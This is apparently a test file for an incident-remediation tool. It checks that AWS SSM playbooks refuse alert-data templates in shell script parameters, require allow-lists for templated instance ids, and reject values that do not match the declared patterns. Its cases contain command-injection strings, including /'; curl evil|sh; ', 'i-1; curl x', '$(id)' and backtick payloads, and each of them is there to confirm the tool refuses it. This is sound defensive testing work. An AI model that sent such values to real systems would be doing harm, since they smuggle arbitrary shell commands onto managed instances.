// Alert data never becomes SSM script text: the playbook schema refuses templates in script
// parameters and templated instances without allow.ssm; the pure checks the workflow and the
// activity run on rendered values (instance ids, allow.ssm, the document's allowedPattern).
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parsePlaybook } from '../../src/playbooks/load.js';
import { playbook, problems } from '../support/playbook-text.js';
import { RunbookSchema } from '../../src/runbooks/schema.js';
import {
  allowTargets,
  documentParameterProblem,
  instancesOf,
  ssmInputProblem,
  tagProblem,
  type DocumentParameter,
} from '../../src/playbooks/ssm-guard.js';
import { ssmCommandInput } from '../../workflows/actions.js';
import type { Step } from '../../src/playbooks/schema.js';
import type { TemplateContext } from '../../src/playbooks/template.js';
import { ROOT } from '../support/paths.js';

const ALLOW_TAGS = "allow: { ssm: { instanceTags: { medic-managed: ['true'] } } }\n";

describe('playbook validation: no template in script text', () => {
  it('a template in AWS-RunShellScript commands fails, naming the parameter and what to do instead', () => {
    const [p, ...more] = problems(
      playbook(
        `  - name: clean
    action: ssm-command
    params:
      document: AWS-RunShellScript
      instanceIds: [i-0123456789abcdef0]
      parameters:
        commands: ["df -h '{{labels.mountpoint}}'"]
`,
      ),
    );
    expect(more).toEqual([]);
    expect(p).toMatch(/^11:9: steps\.0\.params\.parameters\.commands: parameter `commands`: AWS-RunShellScript runs its parameters as a shell script: a template here lets alert data write the script/);
    expect(p).toContain('declares an allowedPattern');
  });

  it('any parameter named commands (or other script text) of any document, and any parameter of a shell document', () => {
    const step = (document: string, name: string, action = 'ssm-command') => `  - name: x
    action: ${action}
    params:
      document: ${document}
${action === 'ssm-command' ? '      instanceIds: [i-0123456789abcdef0]\n' : ''}      parameters:
        ${name}: 'x {{annotations.y}}'
`;
    expect(problems(playbook(step('My-Doc', 'commands')))[0]).toContain('parameter `commands`: `commands` is script text');
    expect(problems(playbook(step('My-Doc', 'commandLine')))[0]).toContain('`commandLine` is script text');
    expect(problems(playbook(step('My-Runbook', 'Script', 'ssm-automation')))[0]).toContain('`Script` is script text');
    expect(problems(playbook(step('AWS-RunPowerShellScript', 'workingDirectory')))[0]).toContain('AWS-RunPowerShellScript runs its parameters as a shell script');
    // A typed parameter of an own document may take a template; literal commands stay allowed.
    expect(problems(playbook(step('Medic-CleanDisk', 'Mountpoint')))).toEqual([]);
    expect(problems(playbook(step('AWS-RunShellScript', 'commands').replace("'x {{annotations.y}}'", '[df -h /]')))).toEqual([]);
    // SSM's own {{ssm:…}} parameter references are not medic templates.
    expect(problems(playbook(step('AWS-RunShellScript', 'commands').replace('{{annotations.y}}', '{{ssm:/app/path}}')))).toEqual([]);
  });

  it('documentVersion and target keys may not be templates', () => {
    expect(
      problems(
        playbook(`  - name: x
    action: ssm-automation
    params:
      document: Medic-GrowRootVolume
      documentVersion: '{{labels.v}}'
`),
      ),
    ).toEqual(['9:7: steps.0.params.documentVersion: documentVersion may not be a template (alert data may not choose it)']);
  });

  it('the shipped playbooks validate, and the old disk-full-ssm (template in commands) does not', () => {
    for (const name of ['disk-full-ssm', 'db-failover-ssm']) {
      expect(parsePlaybook(readFileSync(join(ROOT, 'playbooks', `${name}.yaml`), 'utf8'), `${name}.yaml`, {}).problems).toEqual([]);
    }
    const old = `  - name: clean-up-disk
    action: ssm-command
    params:
      document: AWS-RunShellScript
      instanceIds: ['{{labels.instance_id}}']
      parameters:
        commands: ["df -h '{{labels.mountpoint}}'"]
`;
    expect(problems(playbook(old, ALLOW_TAGS))).toEqual([expect.stringMatching(/^12:9: steps\.0\.params\.parameters\.commands: parameter `commands`/)]);
  });
});

describe('playbook validation: a templated instance needs allow.ssm', () => {
  const step = `  - name: x
    action: ssm-command
    params:
      document: Medic-CleanDisk
      instanceIds: ['{{labels.instance_id}}']
`;
  it('a templated instance id without allow.ssm fails; with instanceTags or instanceIds it loads', () => {
    expect(problems(playbook(step))).toEqual([
      '9:21: steps.0.params.instanceIds.0: the instance id comes from a template: add allow.ssm.instanceTags and/or allow.ssm.instanceIds to say which instances alert data may pick',
    ]);
    expect(problems(playbook(step, ALLOW_TAGS))).toEqual([]);
    expect(problems(playbook(step, "allow: { ssm: { instanceIds: ['~i-0abc[0-9a-f]+'] } }\n"))).toEqual([]);
    // allow.ssm.parameters alone says nothing about instances.
    expect(problems(playbook(step, 'allow: { ssm: { parameters: { Mountpoint: [/var] } } }\n'))).toHaveLength(1);
    expect(problems(playbook(step, 'allow: { ssm: {} }\n'))[0]).toBe('4:10: allow.ssm: allow.ssm needs instanceIds, instanceTags or parameters');
  });

  it('templated tag targets need allow.ssm.instanceTags; other target keys cannot be templated', () => {
    const targets = (key: string) => `  - name: x
    action: ssm-command
    params:
      document: Medic-CleanDisk
      targets: [{ key: '${key}', values: ['{{labels.role}}'] }]
`;
    expect(problems(playbook(targets('tag:Role'), "allow: { ssm: { instanceIds: ['~i-.*'] } }\n"))[0]).toContain(
      'the tag:Role target comes from a template: add allow.ssm.instanceTags',
    );
    expect(problems(playbook(targets('tag:Role'), ALLOW_TAGS))).toEqual([]);
    expect(problems(playbook(targets('resource-groups:Name'), ALLOW_TAGS))[0]).toContain('a templated target must use tag:<key> or InstanceIds');
  });

  it('an automation InstanceId parameter from a template counts as a templated instance', () => {
    const auto = `  - name: grow
    action: ssm-automation
    params:
      document: Medic-GrowRootVolume
      parameters: { InstanceId: '{{labels.instance_id}}' }
`;
    expect(problems(playbook(auto))[0]).toContain('steps.0.params.parameters.InstanceId: parameter `InstanceId` comes from a template');
    expect(problems(playbook(auto, ALLOW_TAGS))).toEqual([]);
  });

  it('runbooks follow the same rules', () => {
    const r = RunbookSchema.safeParse({
      name: 'clean',
      steps: [{ name: 'x', action: 'ssm-command', params: { document: 'Medic-CleanDisk', instanceIds: ['{{labels.instance}}'] } }],
    });
    expect(r.success).toBe(false);
    expect(r.error?.issues[0]?.message).toContain('the instance id comes from a template');
  });
});

describe('rendered values (the workflow and the activity check them)', () => {
  const input = (over: Partial<Parameters<typeof ssmInputProblem>[0]> = {}) => ({ documentName: 'Medic-CleanDisk', parameters: {}, instanceIds: ['i-0123456789abcdef0'], ...over });

  it('instance ids must look like instance ids', () => {
    expect(ssmInputProblem(input())).toBeUndefined();
    expect(ssmInputProblem(input({ instanceIds: ['mi-0123456789abcdef0'] }))).toBeUndefined();
    expect(ssmInputProblem(input({ instanceIds: ['i-0123;reboot'] }))).toBe('instance id `i-0123;reboot` does not match `^(i|mi)-[0-9a-f]{8,17}$`');
    expect(ssmInputProblem(input({ instanceIds: [`i-${'a'.repeat(18)}`] }))).toMatch(/^instance id `i-a+` does not match/);
    expect(ssmInputProblem(input({ instanceIds: [], parameters: { InstanceId: ['i-1; curl x'] } }))).toMatch(/^instance id `i-1; curl x`/);
    expect(ssmInputProblem(input({ instanceIds: [], targets: [{ key: 'InstanceIds', values: ['$(id)'] }] }))).toMatch(/^instance id `\$\(id\)`/);
  });

  it('property: anything outside the id pattern is refused, naming the (truncated) value', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 80 }), (s) => {
        const problem = ssmInputProblem(input({ instanceIds: [s] }));
        expect(problem === undefined).toBe(/^(i|mi)-[0-9a-f]{8,17}$/.test(s));
        if (problem) expect(problem.length).toBeLessThan(120);
      }),
    );
  });

  it('allow.ssm.instanceIds, tag targets and allow.ssm.parameters', () => {
    const allow = { instanceIds: ['~i-0abc[0-9a-f]+'], instanceTags: { Role: ['web', 'worker'] }, parameters: { DBClusterIdentifier: ['~orders-[a-z-]+'] } };
    expect(ssmInputProblem(input({ instanceIds: ['i-0abc0123456789'], allow }))).toBeUndefined();
    expect(ssmInputProblem(input({ allow }))).toBe('instance `i-0123456789abcdef0` is not in allow.ssm.instanceIds (~i-0abc[0-9a-f]+)');
    expect(ssmInputProblem(input({ instanceIds: [], targets: [{ key: 'tag:Role', values: ['db'] }], allow }))).toBe(
      'target `tag:Role` value `db` is not in allow.ssm.instanceTags.Role (web, worker)',
    );
    expect(ssmInputProblem(input({ instanceIds: [], targets: [{ key: 'resource-groups:Name', values: ['all'] }], allow }))).toContain('cannot be checked against allow.ssm');
    expect(ssmInputProblem(input({ instanceIds: [], parameters: { DBClusterIdentifier: ['payments-db'] }, allow }))).toBe(
      'parameter `DBClusterIdentifier` value `payments-db` is not in allow.ssm.parameters.DBClusterIdentifier (~orders-[a-z-]+)',
    );
  });

  it('tag targets are narrowed to the allow-listed tags; instance tags are compared key by key', () => {
    const allow = { instanceTags: { 'medic-managed': ['true'], Role: ['web'] } };
    expect(allowTargets([{ key: 'tag:Role', values: ['web'] }], allow)).toEqual([
      { key: 'tag:Role', values: ['web'] },
      { key: 'tag:medic-managed', values: ['true'] },
    ]);
    expect(allowTargets([], allow)).toEqual([]);
    expect(tagProblem('i-1', { 'medic-managed': 'true', Role: 'web' }, allow)).toBeUndefined();
    expect(tagProblem('i-1', { Role: 'web' }, allow)).toBe('instance `i-1` is not allow-listed: tag `medic-managed` is missing, allow.ssm.instanceTags.medic-managed wants true');
    expect(instancesOf({ documentName: 'd', parameters: { InstanceIds: ['i-1,i-2'] }, instanceIds: ['i-1'] })).toEqual(['i-1', 'i-2']);
  });
});

describe('the shipped documents declare patterns that refuse the attack', () => {
  const params = (name: string): Record<string, DocumentParameter> =>
    (parse(readFileSync(join(ROOT, 'deploy/aws/ssm-documents', `${name}.yaml`), 'utf8')) as { parameters: Record<string, DocumentParameter> }).parameters;

  it('every parameter of every shipped document declares an allowedPattern', () => {
    for (const name of ['Medic-CleanDisk', 'Medic-GrowRootVolume', 'Medic-FailoverAuroraCluster']) {
      for (const [p, d] of Object.entries(params(name))) expect(d.allowedPattern, `${name}.${p}`).toBeTruthy();
    }
  });

  it('Medic-CleanDisk: a shell break-out in Mountpoint is refused, a path passes', () => {
    const mp = params('Medic-CleanDisk').Mountpoint;
    expect(documentParameterProblem('Medic-CleanDisk', 'Mountpoint', ["/'; curl evil|sh; '"], mp, true)).toBe(
      "parameter `Mountpoint` value `/'; curl evil|sh; '` does not match `^/[A-Za-z0-9/_.-]*$` (document Medic-CleanDisk)",
    );
    for (const bad of ['/var$(id)', '/var`id`', '/var\nreboot', '/a b', 'var', '{{ssm:/secret}}']) {
      expect(documentParameterProblem('Medic-CleanDisk', 'Mountpoint', [bad], mp, true)).toBeDefined();
    }
    expect(documentParameterProblem('Medic-CleanDisk', 'Mountpoint', ['/var/lib/docker'], mp, true)).toBeUndefined();
    expect(documentParameterProblem('Medic-CleanDisk', 'Mountpoint', [`/${'x'.repeat(80)}'`], mp, true)).toMatch(/value `\/x{38}…` does not match/);
  });

  it('a long or multi-line value is shown on one line, truncated', () => {
    const problem = documentParameterProblem('D', 'P', ['a\nb`c'.repeat(20)], { allowedPattern: '^[a-z]+$' }, true)!;
    expect(problem).toMatch(/^parameter `P` value `a\\nb'ca\\nb'c.*…` does not match `\^\[a-z\]\+\$` \(document D\)$/);
    expect(problem).not.toContain('\n');
  });
});

describe('ssmCommandInput', () => {
  it('marks templated parameters and carries allow.ssm to the activity', () => {
    const step = {
      name: 'x',
      action: 'ssm-command',
      timeout: '30s',
      params: { document: 'Medic-CleanDisk', parameters: { Mountpoint: '{{labels.mountpoint}}', LogAgeDays: '7' }, instanceIds: ['{{labels.id}}'], targets: [] },
    } as unknown as Extract<Step, { action: 'ssm-command' }>;
    const ctx: TemplateContext = { incident: { id: 'inc', workflowId: 'wf' }, labels: { mountpoint: "/'; x", id: 'i-0123456789abcdef0' }, annotations: {}, target: 't' };
    const allow = { ssm: { instanceTags: { 'medic-managed': ['true'] } } };
    expect(ssmCommandInput(step, ctx, { idempotencyKey: 'k', dryRun: false }, allow)).toMatchObject({
      parameters: { Mountpoint: ["/'; x"], LogAgeDays: ['7'] },
      templated: ['Mountpoint'],
      instanceIds: ['i-0123456789abcdef0'],
      allow: allow.ssm,
    });
  });
});
